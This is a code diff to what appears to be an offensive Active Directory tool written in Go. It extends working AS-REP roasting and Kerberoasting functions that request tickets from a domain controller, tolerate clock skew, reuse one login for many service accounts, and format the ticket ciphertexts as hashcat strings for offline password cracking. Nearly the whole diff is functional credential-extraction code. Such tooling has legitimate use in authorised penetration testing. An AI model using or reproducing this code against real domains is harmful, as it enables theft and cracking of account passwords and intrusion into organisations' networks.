@@ -5,6 +5,7 @@ import (
 	"log"
 	"net"
 	"strings"
+	"sync"
 	"time"
 
 	"github.com/jcmturner/gokrb5/v8/client"
@@ -21,6 +22,16 @@ type RealKerberosClient struct {
 	config         *config.Config
 	clientSAM      string
 	clientPassword string
+	// clockOffset is added to the local clock for request timestamps when
+	// the KDC clock is off (see SetClockOffset).
+	clockOffset time.Duration
+
+	// One TGT serves every service ticket request, so roasting many SPNs
+	// costs a single AS exchange.
+	mu        sync.Mutex
+	tgsClient *client.Client
+	skewTGT   *messages.Ticket
+	skewKey   types.EncryptionKey
 }
 
 // SetClientCredentials configures the principal used to obtain a TGT for Kerberoasting.
@@ -29,13 +40,40 @@ func (k *RealKerberosClient) SetClientCredentials(sam, password string) {
 	k.clientPassword = password
 }
 
+// SetClockOffset makes requests use the local clock plus offset, the KDC's
+// time as measured from the RootDSE. gokrb5 stamps requests with time.Now,
+// so with a non-zero offset the AS and TGS exchanges are built here.
+func (k *RealKerberosClient) SetClockOffset(offset time.Duration) {
+	k.clockOffset = offset
+	skew := offset
+	if skew < 0 {
+		skew = -skew
+	}
+	k.config.LibDefaults.Clockskew = ClockSkewTolerance + skew
+}
+
 // NewRealKerberosClient creates a new real Kerberos client
 func NewRealKerberosClient(domain, kdcAddress string) (*RealKerberosClient, error) {
 	// Normalize domain to uppercase
 	domain = strings.ToUpper(domain)
 
-	// Create Kerberos configuration
-	cfg, err := config.NewFromString(fmt.Sprintf(`[libdefaults]
+	cfg, err := newKrb5Config(domain, kdcAddress)
+	if err != nil {
+		return nil, fmt.Errorf("failed to create Kerberos config: %v", err)
+	}
+
+	return &RealKerberosClient{
+		domain:     domain,
+		kdcAddress: kdcAddress,
+		config:     cfg,
+	}, nil
+}
+
+// newKrb5Config builds an in-memory krb5.conf that maps realm to a single KDC,
+// so no system Kerberos configuration is needed.
+func newKrb5Config(realm, kdcAddress string) (*config.Config, error) {
+	domain := strings.ToUpper(realm)
+	return config.NewFromString(fmt.Sprintf(`[libdefaults]
     default_realm = %s
     dns_lookup_realm = false
     dns_lookup_kdc = false
@@ -57,46 +95,33 @@ func NewRealKerberosClient(domain, kdcAddress string) (*RealKerberosClient, erro
     %s = %s
 `, domain, domain, kdcAddress, kdcAddress, strings.ToLower(domain),
 		strings.ToLower(domain), domain, strings.ToLower(domain), domain))
-
-	if err != nil {
-		return nil, fmt.Errorf("failed to create Kerberos config: %v", err)
-	}
-
-	return &RealKerberosClient{
-		domain:     domain,
-		kdcAddress: kdcAddress,
-		config:     cfg,
-	}, nil
 }
 
 // ExtractASREPHash performs real AS-REP roasting using Kerberos protocol
-func (k *RealKerberosClient) ExtractASREPHash(username string) (string, error) {
+func (k *RealKerberosClient) ExtractASREPHash(username string) (HashRecord, error) {
 	log.Printf("[*] Performing real AS-REP roasting for %s@%s", username, k.domain)
 
 	principalName := types.NewPrincipalName(1, username)
 
 	asReq, err := messages.NewASReqForTGT(k.domain, k.config, principalName)
 	if err != nil {
-		return "", fmt.Errorf("failed to create AS-REQ: %v", err)
+		return HashRecord{}, fmt.Errorf("failed to create AS-REQ: %v", err)
 	}
 
 	asReq.PAData = types.PADataSequence{}
+	shiftReqTimes(&asReq.ReqBody, k.clockOffset)
 
 	// Prefer modern etypes first, then RC4 (hashcat supports 18200 for common etypes)
-	asReq.ReqBody.EType = []int32{
-		int32(etypeID.AES256_CTS_HMAC_SHA1_96),
-		int32(etypeID.AES128_CTS_HMAC_SHA1_96),
-		int32(etypeID.RC4_HMAC),
-	}
+	asReq.ReqBody.EType = ASREPRequestEtypes
 
 	b, err := asReq.Marshal()
 	if err != nil {
-		return "", fmt.Errorf("failed to marshal AS-REQ: %v", err)
+		return HashRecord{}, fmt.Errorf("failed to marshal AS-REQ: %v", err)
 	}
 
 	rb, err := sendToKDCTCP(k.kdcAddress, b)
 	if err != nil {
-		return "", fmt.Errorf("failed to communicate with KDC: %v", err)
+		return HashRecord{}, fmt.Errorf("failed to communicate with KDC: %v", err)
 	}
 
 	var asRep messages.ASRep
@@ -104,103 +129,119 @@ func (k *RealKerberosClient) ExtractASREPHash(username string) (string, error) {
 	if err != nil {
 		var krbErr messages.KRBError
 		if errUnmarshal := krbErr.Unmarshal(rb); errUnmarshal == nil {
-			return "", fmt.Errorf("KDC returned error: %s (code: %d)", krbErr.EText, krbErr.ErrorCode)
+			return HashRecord{}, fmt.Errorf("KDC returned error: %w", krbErr)
 		}
-		return "", fmt.Errorf("failed to parse AS-REP: %v", err)
+		return HashRecord{}, fmt.Errorf("failed to parse AS-REP: %v", err)
 	}
 
-	hash := formatASREPHashForHashcat(username, k.domain, &asRep)
-	log.Printf("[+] Successfully extracted AS-REP hash for %s@%s", username, k.domain)
-	return hash, nil
+	etype := asRep.EncPart.EType
+	record := HashRecord{
+		RequestedEtypes: ASREPRequestEtypes,
+		Etype:           etype,
+		KVNO:            asRep.EncPart.KVNO,
+		Realm:           asRep.Ticket.Realm,
+		HashcatMode:     HashcatMode(HashTypeASREP, etype),
+		Hash:            formatASREPHashForHashcat(username, k.domain, &asRep),
+	}
+	log.Printf("[+] Successfully extracted AS-REP hash for %s@%s (etype %d)", username, k.domain, etype)
+	return record, nil
 }
 
 // ExtractKerberoastHash requests a TGS for spn using client credentials; username is the service account SAM for hash labeling.
-func (k *RealKerberosClient) ExtractKerberoastHash(serviceAccountSAM, spn string) (string, error) {
+func (k *RealKerberosClient) ExtractKerberoastHash(serviceAccountSAM, spn string) (HashRecord, error) {
 	log.Printf("[*] Performing real Kerberoasting for %s@%s (SPN: %s)", serviceAccountSAM, k.domain, spn)
 
 	if k.clientSAM == "" || k.clientPassword == "" {
-		return "", fmt.Errorf("Kerberoasting requires client credentials (LDAP bind user/password)")
+		return HashRecord{}, fmt.Errorf("Kerberoasting requires client credentials (LDAP bind user/password)")
 	}
 
-	cl := client.NewWithPassword(k.clientSAM, k.domain, k.clientPassword, k.config, client.DisablePAFXFAST(true))
-	tkt, _, err := cl.GetServiceTicket(spn)
-	if err != nil {
-		return "", fmt.Errorf("GetServiceTicket failed: %w", err)
+	var tkt messages.Ticket
+	if k.clockOffset != 0 {
+		var err error
+		if tkt, err = k.skewedServiceTicket(spn); err != nil {
+			return HashRecord{}, fmt.Errorf("service ticket with %s clock offset failed: %w", k.clockOffset, err)
+		}
+	} else {
+		var err error
+		if tkt, _, err = k.serviceClient().GetServiceTicket(spn); err != nil {
+			return HashRecord{}, fmt.Errorf("GetServiceTicket failed: %w", skewHint(err))
+		}
 	}
 
-	hash := formatKerberoastHashForHashcat(serviceAccountSAM, k.domain, spn, tkt)
-	log.Printf("[+] Successfully extracted Kerberoast hash for %s@%s", serviceAccountSAM, k.domain)
-	return hash, nil
+	etype := tkt.EncPart.EType
+	record := HashRecord{
+		SPN:             spn,
+		RequestedEtypes: k.config.LibDefaults.DefaultTGSEnctypeIDs,
+		Etype:           etype,
+		KVNO:            tkt.EncPart.KVNO,
+		Realm:           tkt.Realm,
+		HashcatMode:     HashcatMode(HashTypeKerberoast, etype),
+		Hash:            formatKerberoastHashForHashcat(serviceAccountSAM, k.domain, spn, tkt),
+	}
+	log.Printf("[+] Successfully extracted Kerberoast hash for %s@%s (etype %d, kvno %d)", serviceAccountSAM, k.domain, etype, record.KVNO)
+	return record, nil
 }
 
-// formatASREPHashForHashcat formats AS-REP response for hashcat mode 18200
-func formatASREPHashForHashcat(username, domain string, asRep *messages.ASRep) string {
-	encType := asRep.EncPart.EType
-	cipher := asRep.EncPart.Cipher
-	cipherHex := fmt.Sprintf("%x", cipher)
-	return fmt.Sprintf("$krb5asrep$%d$%s@%s:%s",
-		encType,
-		username,
-		domain,
-		cipherHex)
+// serviceClient returns the gokrb5 client shared by service ticket
+// requests; it logs in on first use and is safe for concurrent use.
+func (k *RealKerberosClient) serviceClient() *client.Client {
+	k.mu.Lock()
+	defer k.mu.Unlock()
+	if k.tgsClient == nil {
+		k.tgsClient = client.NewWithPassword(k.clientSAM, k.domain, k.clientPassword, k.config, client.DisablePAFXFAST(true))
+	}
+	return k.tgsClient
 }
 
-func kerberoastChecksumLen(encType int32) int {
+// splitChecksum separates the integrity checksum from a Kerberos
+// ciphertext: RC4-HMAC puts its 16-byte HMAC first, the AES etypes append
+// a 12-byte truncated HMAC.
+func splitChecksum(encType int32, cipher []byte) (checksum, edata []byte) {
 	switch encType {
-	case int32(etypeID.AES256_CTS_HMAC_SHA1_96), int32(etypeID.AES128_CTS_HMAC_SHA1_96):
-		return 12
+	case etypeID.AES256_CTS_HMAC_SHA1_96, etypeID.AES128_CTS_HMAC_SHA1_96:
+		if len(cipher) < 12 {
+			return nil, cipher
+		}
+		return cipher[len(cipher)-12:], cipher[:len(cipher)-12]
 	default:
-		return 16
+		if len(cipher) < 16 {
+			return nil, cipher
+		}
+		return cipher[:16], cipher[16:]
 	}
 }
 
-// formatKerberoastHashForHashcat formats service ticket for hashcat (mode 13100 etype 23, 19600/19700-style for AES).
-func formatKerberoastHashForHashcat(username, domain, spn string, tkt messages.Ticket) string {
-	encType := tkt.EncPart.EType
-	cipher := tkt.EncPart.Cipher
-	cipherHex := fmt.Sprintf("%x", cipher)
-
-	checksumLen := kerberoastChecksumLen(encType)
-	if len(cipher) < checksumLen {
-		checksumLen = len(cipher) / 2
-		if checksumLen < 1 {
-			checksumLen = 1
-		}
-	}
+// formatASREPHashForHashcat formats an AS-REP for hashcat.
+func formatASREPHashForHashcat(username, domain string, asRep *messages.ASRep) string {
+	return ASREPHash(username, domain, asRep.EncPart)
+}
 
-	checksum := cipherHex[:checksumLen*2]
-	encPart := cipherHex[checksumLen*2:]
+// formatKerberoastHashForHashcat formats a service ticket for hashcat.
+func formatKerberoastHashForHashcat(username, domain, spn string, tkt messages.Ticket) string {
+	return KerberoastHash(username, domain, spn, tkt.EncPart)
+}
 
-	return fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%s$%s",
-		encType,
-		username,
-		domain,
-		spn,
-		checksum,
-		encPart)
+// ASREPHash formats an AS-REP enc-part for hashcat: mode 18200 for RC4,
+// 32100/32200 for AES.
+func ASREPHash(username, domain string, encPart types.EncryptedData) string {
+	encType := encPart.EType
+	checksum, edata := splitChecksum(encType, encPart.Cipher)
+	if encType == etypeID.RC4_HMAC {
+		return fmt.Sprintf("$krb5asrep$%d$%s@%s:%x$%x", encType, username, domain, checksum, edata)
+	}
+	return fmt.Sprintf("$krb5asrep$%d$%s$%s$%x$%x", encType, username, domain, checksum, edata)
 }
 
-// formatKerberoastHashFromTGSRep formats TGS-REP for hashcat
-func formatKerberoastHashFromTGSRep(username, domain, spn string, tgsRep *messages.TGSRep) string {
-	encType := tgsRep.Ticket.EncPart.EType
-	cipher := tgsRep.Ticket.EncPart.Cipher
-	cipherHex := fmt.Sprintf("%x", cipher)
-	checksumLen := kerberoastChecksumLen(encType)
-	if len(cipher) < checksumLen {
-		checksumLen = len(cipher) / 2
-		if checksumLen < 1 {
-			checksumLen = 1
-		}
+// KerberoastHash formats a service ticket's enc-part for hashcat: mode
+// 13100 for RC4, 19600/19700 for AES. The AES form carries the user and
+// realm separately because they are the key's salt.
+func KerberoastHash(username, domain, spn string, encPart types.EncryptedData) string {
+	encType := encPart.EType
+	checksum, edata := splitChecksum(encType, encPart.Cipher)
+	if encType == etypeID.RC4_HMAC {
+		return fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%x$%x", encType, username, domain, spn, checksum, edata)
 	}
-	checksum := cipherHex[:checksumLen*2]
-	encPart := cipherHex[checksumLen*2:]
-	return fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%s$%s",
-		encType,
-		username,
-		domain,
-		spn,
-		checksum,
-		encPart)
+	return fmt.Sprintf("$krb5tgs$%d$%s$%s$*%s*$%x$%x", encType, username, domain, spn, checksum, edata)
 }
 
 // parseSPNComponents parses SPN into components